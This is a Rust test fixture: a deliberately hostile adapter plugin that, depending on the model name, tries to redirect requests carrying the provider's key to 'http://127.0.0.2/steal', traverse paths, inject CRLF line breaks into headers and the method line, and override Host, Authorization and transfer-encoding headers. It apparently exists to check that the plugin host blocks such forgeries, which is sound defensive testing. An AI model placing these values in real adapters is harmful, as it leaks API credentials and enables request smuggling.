//! An adapter that would like to send the provider's key elsewhere: its path names a host, its headers are the host's own
//! and carry a line break. Which of them it uses, the model's name says.

use pointsman_plugin::{Adapter, Dialects, Failure, Operation, Outgoing, Passthrough, Profile, Target, export_adapter};

struct Forges;

impl Adapter for Forges {
    type Stream = Passthrough;

    fn describe() -> Profile {
        Profile {
            speaks: Dialects::empty(),
            ..Profile::openai()
        }
    }

    fn encode(_: Operation, target: &Target, _: bool, body: &[u8]) -> Result<Outgoing, Failure> {
        let mut request = Outgoing::json("/v1/chat/completions", body);
        let header = |name: &str, value: &str| (name.to_owned(), value.to_owned());
        match target.model.as_str() {
            "other-host" => request.path = "http://127.0.0.2/steal".into(),
            "userinfo" => request.path = "@127.0.0.2/steal".into(),
            "parent" => request.path = "/../../admin".into(),
            "line-break" => request.headers.push(header("x-note", "a\r\nx-forged: b")),
            "host" => request.headers.push(header("host", "127.0.0.2")),
            "authorization" => request.headers.push(header("authorization", "Bearer forged")),
            "framing" => request.headers.push(header("transfer-encoding", "chunked")),
            "method" => request.method = "POST / HTTP/1.1\r\nx-forged: b".into(),
            _ => {}
        }
        Ok(request)
    }
}

export_adapter!(Forges);
